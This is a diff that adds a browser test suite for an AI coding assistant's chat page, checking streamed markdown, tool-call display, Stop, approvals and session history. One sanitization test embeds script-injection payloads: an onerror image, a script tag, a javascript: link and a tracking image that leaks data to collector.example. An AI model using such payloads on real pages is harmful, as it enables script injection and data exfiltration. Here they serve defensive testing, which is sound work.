@@ -1,0 +1,265 @@
+// The chat page in headless Chromium, fed the recorded event streams.
+// Skipped when /usr/bin/chromium is missing, unless CI=true.
+
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import type { Browser } from 'playwright-core';
+import { sessionsFixture, turnFixture } from '../fixtures';
+import { type ChatPage, type PageServer, hasChromium, launch, mustRunChromium, openChat, startPageServer, typedTurn } from './harness';
+
+const run = hasChromium || mustRunChromium;
+
+describe.skipIf(!run)('chat page in Chromium', () => {
+  let server: PageServer;
+  let browser: Browser;
+  let chat: ChatPage;
+
+  beforeAll(async () => {
+    server = await startPageServer();
+    browser = await launch();
+  });
+  afterAll(async () => {
+    await browser?.close();
+    await server?.close();
+  });
+  beforeEach(async () => {
+    chat = await openChat(browser, server.origin);
+    return async () => {
+      expect(chat.problems).toEqual([]); // no script errors, no CSP violations
+      await chat.page.context().close();
+    };
+  });
+
+  it('loads under its CSP, says ready and shows the empty state', async () => {
+    const { page } = chat;
+    expect(await chat.posted()).toEqual([{ type: 'ready' }]);
+    await expect(page.locator('#empty').isVisible()).resolves.toBe(true);
+    await expect(page.locator('#title').textContent()).resolves.toBe('New session');
+    await expect(page.locator('#send').isVisible()).resolves.toBe(true);
+    await expect(page.locator('#stop').isVisible()).resolves.toBe(false);
+  });
+
+  it('renders a streamed markdown answer, thinking collapsed, usage at the end', async () => {
+    const f = turnFixture('text-answer');
+    const { page } = chat;
+    await chat.feed([
+      { type: 'context', context: { label: 'cart/cart.go:10-17', uri: f.request.params.context!.uri }, include: true },
+      ...typedTurn(f, { context: { type: 'userMessage', text: f.request.params.message, context: { label: 'cart/cart.go:10-17', uri: f.request.params.context!.uri } } }),
+    ]);
+    await expect(page.locator('#empty').isVisible()).resolves.toBe(false);
+    await expect(page.locator('.user-text').textContent()).resolves.toBe('Why does Total add the fee?');
+    await expect(page.locator('.user-context').textContent()).resolves.toBe('cart/cart.go:10-17');
+    const md = page.locator('.md');
+    await expect(md.locator('strong').textContent()).resolves.toBe('delivery fee');
+    await expect(md.locator('ol > li').count()).resolves.toBe(2);
+    await expect(md.locator('pre code.language-go').textContent()).resolves.toContain('sum += it.Price * it.Qty');
+    await expect(md.locator('a').getAttribute('href')).resolves.toBe('https://go.dev/ref/spec#For_statements');
+    const thinking = page.locator('details.thinking');
+    await expect(thinking.getAttribute('open')).resolves.toBeNull();
+    await expect(thinking.locator('.thinking-body').textContent()).resolves.toContain('per order');
+    await expect(page.locator('.turn-meta .usage').textContent()).resolves.toBe('1,830 in · 164 out');
+    await expect(page.locator('.turn-meta .stop').count()).resolves.toBe(0); // end_turn says nothing
+    await expect(page.locator('.working').count()).resolves.toBe(0);
+    await expect(page.locator('body').getAttribute('data-running')).resolves.toBe('false');
+
+    await chat.clearPosted();
+    await md.locator('a').click();
+    expect(await chat.posted()).toEqual([{ type: 'openLink', href: 'https://go.dev/ref/spec#For_statements' }]);
+  });
+
+  it('shows the text as it streams', async () => {
+    const f = turnFixture('text-answer');
+    const { page } = chat;
+    await chat.feed(typedTurn(f, { upTo: 3 }));
+    const partial = await page.locator('.md').textContent();
+    expect(partial).toContain('delivery fee');
+    expect(partial).not.toContain('Qty');
+    await expect(page.locator('.working').isVisible()).resolves.toBe(true);
+    await chat.feed(f.events.slice(3).map((event) => ({ type: 'event' as const, event })));
+    await expect(page.locator('.md').textContent()).resolves.toContain('Qty');
+  });
+
+  it('shows tool calls compactly, results on demand, and edits with file links', async () => {
+    const f = turnFixture('tool-edit');
+    const { page } = chat;
+    await chat.feed(typedTurn(f));
+    const tools = page.locator('details.tool');
+    await expect(tools.count()).resolves.toBe(2);
+    await expect(tools.locator('.tool-name').allTextContents()).resolves.toEqual(['read_file', 'edit_file']);
+    await expect(tools.locator('.tool-arg').allTextContents()).resolves.toEqual(['cart/cart.go', 'cart/cart.go']);
+    await expect(page.locator('details.tool.tool-ok').count()).resolves.toBe(2);
+    // Collapsed: the result is not shown until the summary is clicked.
+    const read = tools.first();
+    await expect(read.locator('pre.tool-result').isVisible()).resolves.toBe(false);
+    await read.locator('summary').click();
+    await expect(read.locator('pre.tool-result').isVisible()).resolves.toBe(true);
+    await expect(read.locator('pre.tool-result').textContent()).resolves.toContain('func Total');
+    await expect(read.locator('pre.tool-input').textContent()).resolves.toContain('"path": "cart/cart.go"');
+
+    const edit = page.locator('.edit .change');
+    await expect(edit.textContent()).resolves.toBe('Edited cart/cart.go');
+    await chat.clearPosted();
+    await edit.locator('a.file').click();
+    expect(await chat.posted()).toEqual([{ type: 'openFile', uri: 'file:///home/dev/shop/cart/cart.go' }]);
+    await expect(page.locator('.turn-meta .usage').textContent()).resolves.toBe('7,600 in · 250 out · 4,200 cached');
+  });
+
+  it('keeps an opened tool call open while the turn streams on', async () => {
+    const f = turnFixture('tool-edit');
+    const { page } = chat;
+    await chat.feed(typedTurn(f, { upTo: 6 })); // read_file and its result
+    await page.locator('details.tool summary').first().click();
+    await chat.feed(f.events.slice(6).map((event) => ({ type: 'event' as const, event })));
+    await expect(page.locator('details.tool').first().getAttribute('open')).resolves.toBe('');
+  });
+
+  it('Stop posts stop while a turn runs; the cancelled turn says Stopped', async () => {
+    const f = turnFixture('cancelled');
+    const { page } = chat;
+    const toolCall = f.events.findIndex((e) => e.kind === 'toolCall');
+    await chat.feed(typedTurn(f, { upTo: toolCall + 1 }));
+    await expect(page.locator('#stop').isVisible()).resolves.toBe(true);
+    await expect(page.locator('#send').isVisible()).resolves.toBe(false);
+    await expect(page.locator('details.tool.tool-running .tool-arg').textContent()).resolves.toBe('sleep 30 && go test ./...');
+    await expect(page.locator('.working').textContent()).resolves.toBe('Working…');
+
+    await chat.clearPosted();
+    await page.locator('#stop').click();
+    expect(await chat.posted()).toEqual([{ type: 'stop' }]);
+
+    await chat.feed([
+      ...f.events.slice(toolCall + 1).map((event) => ({ type: 'event' as const, event })),
+      { type: 'turnEnd', result: f.result!, cancelled: true },
+    ]);
+    await expect(page.locator('.turn-meta .stop-cancelled').textContent()).resolves.toBe('Stopped');
+    await expect(page.locator('details.tool.tool-error').count()).resolves.toBe(1);
+    await expect(page.locator('#stop').isVisible()).resolves.toBe(false);
+    await expect(page.locator('#send').isVisible()).resolves.toBe(true);
+    await expect(page.locator('.working').count()).resolves.toBe(0);
+  });
+
+  it('Escape in the input stops a running turn', async () => {
+    await chat.feed(typedTurn(turnFixture('cancelled'), { upTo: 2 }));
+    await chat.clearPosted();
+    await chat.page.locator('#input').press('Escape');
+    expect(await chat.posted()).toEqual([{ type: 'stop' }]);
+  });
+
+  it('shows an error turn', async () => {
+    const { page } = chat;
+    await chat.feed(typedTurn(turnFixture('error')));
+    await expect(page.locator('.turn-error').textContent()).resolves.toContain('HTTP 400 invalid_request_error');
+    await expect(page.locator('.turn-meta .stop-error').textContent()).resolves.toBe('Failed');
+  });
+
+  it('sanitizes model output: no raw HTML, no script URLs, no remote images', async () => {
+    const { page } = chat;
+    const evil =
+      'Hi <img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script>\n\n' +
+      '[click](javascript:window.__pwned=3) ![tracker](https://collector.example/leak?data=secret)\n\n' +
+      '<a href="https://evil.example" onclick="window.__pwned=4">raw</a>';
+    await chat.feed([
+      { type: 'userMessage', text: 'x' },
+      { type: 'turnStart' },
+      { type: 'event', event: { session: 's', turn: 1, kind: 'text', text: evil } },
+      { type: 'event', event: { session: 's', turn: 1, kind: 'done', stopReason: 'end_turn' } },
+    ]);
+    const md = page.locator('.md');
+    await expect(md.locator('img, script, [onerror], [onclick]').count()).resolves.toBe(0);
+    const hrefs = await md.locator('a').evaluateAll((as) => as.map((a) => a.getAttribute('href')));
+    expect(hrefs.some((h) => h?.startsWith('javascript:'))).toBe(false);
+    await expect(md.textContent()).resolves.toContain('<script>'); // shown as text
+    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
+  });
+
+  it('sends on Enter with the context choice; Shift+Enter adds a line', async () => {
+    const { page } = chat;
+    await chat.feed([{ type: 'context', context: { label: 'cart/cart.go:10-17', uri: 'file:///home/dev/shop/cart/cart.go', diagnostics: 2 }, include: true }]);
+    await expect(page.locator('#context-label').textContent()).resolves.toBe('cart/cart.go:10-17 · 2 diagnostics');
+    await chat.clearPosted();
+    const input = page.locator('#input');
+    await input.fill('Why does Total');
+    await input.press('Shift+Enter');
+    await input.pressSequentially('add the fee?');
+    expect(await chat.posted()).toEqual([]);
+    await input.press('Enter');
+    expect(await chat.posted()).toEqual([{ type: 'send', text: 'Why does Total\nadd the fee?', includeContext: true }]);
+    await expect(input.inputValue()).resolves.toBe('');
+
+    await chat.clearPosted();
+    await page.locator('#include-context').uncheck();
+    await input.fill('without context');
+    await page.locator('#send').click();
+    expect(await chat.posted()).toEqual([
+      { type: 'includeContext', include: false },
+      { type: 'send', text: 'without context', includeContext: false },
+    ]);
+  });
+
+  it('a pinned selection can be removed', async () => {
+    const { page } = chat;
+    await chat.feed([{ type: 'context', context: { label: 'a.go:1-3', uri: 'file:///a.go', pinned: true }, include: true }]);
+    await chat.clearPosted();
+    await page.locator('#unpin').click();
+    expect(await chat.posted()).toEqual([{ type: 'unpinContext' }]);
+  });
+
+  it('lists, opens and deletes sessions; shows a loaded history', async () => {
+    const f = sessionsFixture();
+    const { page } = chat;
+    await chat.clearPosted();
+    await page.locator('#history').click();
+    expect(await chat.posted()).toEqual([{ type: 'listSessions' }]);
+    await chat.feed([{ type: 'sessions', sessions: f.sessions.sessions }]);
+    const items = page.locator('#sessions li.session');
+    await expect(items.count()).resolves.toBe(3);
+    await expect(items.locator('.session-title').allTextContents()).resolves.toEqual(['Add tests for Total', 'Run the tests', 'Why does Total add the fee?']);
+    await expect(items.nth(2).locator('.session-meta').textContent()).resolves.toContain('2 turns');
+
+    await chat.clearPosted();
+    await items.nth(2).locator('.session-delete').click();
+    await items.nth(2).locator('.session-open').click();
+    expect(await chat.posted()).toEqual([
+      { type: 'deleteSession', id: f.history.id },
+      { type: 'openSession', id: f.history.id },
+    ]);
+    await chat.feed([{ type: 'reset' }, { type: 'history', session: f.history }, { type: 'sessions', sessions: f.sessions.sessions, current: f.history.id }]);
+    await expect(page.locator('#sessions').isVisible()).resolves.toBe(false);
+    await expect(page.locator('#title').textContent()).resolves.toBe('Why does Total add the fee?');
+    await expect(page.locator('article.turn').count()).resolves.toBe(2);
+    await expect(page.locator('.user-context').first().textContent()).resolves.toBe('shop/cart/cart.go:10-17');
+    await expect(page.locator('details.tool .tool-name').allTextContents()).resolves.toEqual(['read_file', 'edit_file']);
+
+    await chat.clearPosted();
+    await page.locator('#new').click();
+    expect(await chat.posted()).toEqual([{ type: 'newSession' }]);
+  });
+
+  it('asks an approval and posts the answer', async () => {
+    const a = turnFixture('cancelled').approvals![0].request;
+    const { page } = chat;
+    await chat.feed([{ type: 'approval', id: 7, message: a.message, actions: a.actions.map((x) => x.title) }]);
+    const card = page.locator('.approval');
+    await expect(card.locator('.approval-message').textContent()).resolves.toBe('parley wants to run: sleep 30 && go test ./...');
+    await expect(card.locator('button').allTextContents()).resolves.toEqual(['Allow once', 'Allow for this session', 'Deny']);
+    await chat.clearPosted();
+    await card.locator('button', { hasText: 'Allow once' }).click();
+    expect(await chat.posted()).toEqual([{ type: 'approve', id: 7, answer: 'Allow once' }]);
+    await expect(page.locator('.approval').count()).resolves.toBe(0);
+  });
+
+  it('says when the server is not running and offers a restart', async () => {
+    const { page } = chat;
+    await chat.feed([{ type: 'server', state: 'stopped', message: 'spawn parley ENOENT' }]);
+    await expect(page.locator('#server-text').textContent()).resolves.toBe('The parley server is not running: spawn parley ENOENT.');
+    await expect(page.locator('#send').isDisabled()).resolves.toBe(true);
+    await chat.clearPosted();
+    await page.locator('#restart').click();
+    expect(await chat.posted()).toEqual([{ type: 'restartServer' }]);
+  });
+});
+
+if (!run) {
+  describe('chat page in Chromium', () => {
+    it.skip(`skipped: no Chromium at ${process.env.CHROMIUM_PATH ?? '/usr/bin/chromium'} (apt-get install chromium; CI=true makes this fail)`, () => undefined);
+  });
+}
